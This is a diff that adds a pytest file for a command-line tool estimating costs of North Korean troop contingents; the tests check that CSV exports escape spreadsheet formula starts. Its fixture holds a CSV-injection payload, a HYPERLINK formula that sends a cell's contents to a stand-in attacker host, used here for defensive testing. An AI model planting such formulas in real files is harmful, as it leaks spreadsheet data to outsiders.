@@ -1,0 +1,64 @@
+"""User text in CSV is inert: a spreadsheet opening the file shows it, never runs it."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+
+from dprk_ru.core.text import FORMULA_STARTS, inert
+
+EVIL = '''name = "=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"click\\")"
+[[contingents]]
+name = "@SUM(1)"
+troops = "1000 to 2000"
+[[contingents]]
+name = "-x"
+troops = 5
+killed = 1
+death_payment_usd = 1000
+'''
+
+
+@pytest.mark.parametrize(
+    "args",
+    [["estimate"], ["compare"], ["simulate", "-n", "3", "--seed", "1"], ["sensitivity"],
+     ["solve", "--for", "bonus", "--target", "50M"], ["samples"]],
+    ids=lambda a: a[0],
+)  # fmt: skip
+def test_csv_text_cells_are_inert(run, tmp_path: Path, args: list[str]) -> None:
+    """No CSV cell the tool writes from user text starts a formula (OWASP: a leading ' for
+    = + - @, tab, CR), in estimate, compare, simulate, --samples-out, sensitivity and
+    solve; numbers stay numbers (a negative delta is still -...)."""
+    f = tmp_path / "evil.toml"
+    f.write_text(EVIL)
+    if args[0] == "samples":
+        out = tmp_path / "draws.csv"
+        r = run("simulate", "-s", str(f), "-n", "3", "--seed", "1", "--samples-out", str(out),
+                "-o", str(tmp_path / "sum.csv"))  # fmt: skip
+        text = out.read_text()
+    else:
+        where = [str(f)] if args[0] == "compare" else ["-s", str(f)]
+        r = run(args[0], *where, *args[1:], "-f", "csv")
+        text = r.stdout
+    assert r.exit_code == 0, r.stderr
+    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+    texts = [c for c in cells if not c.replace(".", "").replace("-", "").isdigit()]
+    assert texts and not any(c.startswith(FORMULA_STARTS) for c in texts)
+    assert any(c.startswith("'=HYPERLINK") or c.startswith("'@SUM") for c in cells)
+
+
+def test_negative_numbers_stay_numbers(run) -> None:
+    """compare's delta against a larger first scenario is a plain negative number."""
+    r = run("compare", "kursk-2024", "shoigu-2025", "-f", "csv")
+    (_, second) = list(csv.DictReader(io.StringIO(r.stdout)))
+    assert second["delta_usd"] == "-156000000"
+
+
+def test_inert_rules() -> None:
+    """Each formula start gets a leading quote; other text is untouched."""
+    for start in FORMULA_STARTS:
+        assert inert(f"{start}1+1") == f"'{start}1+1"
+    assert inert("kursk") == "kursk" and inert("") == ""
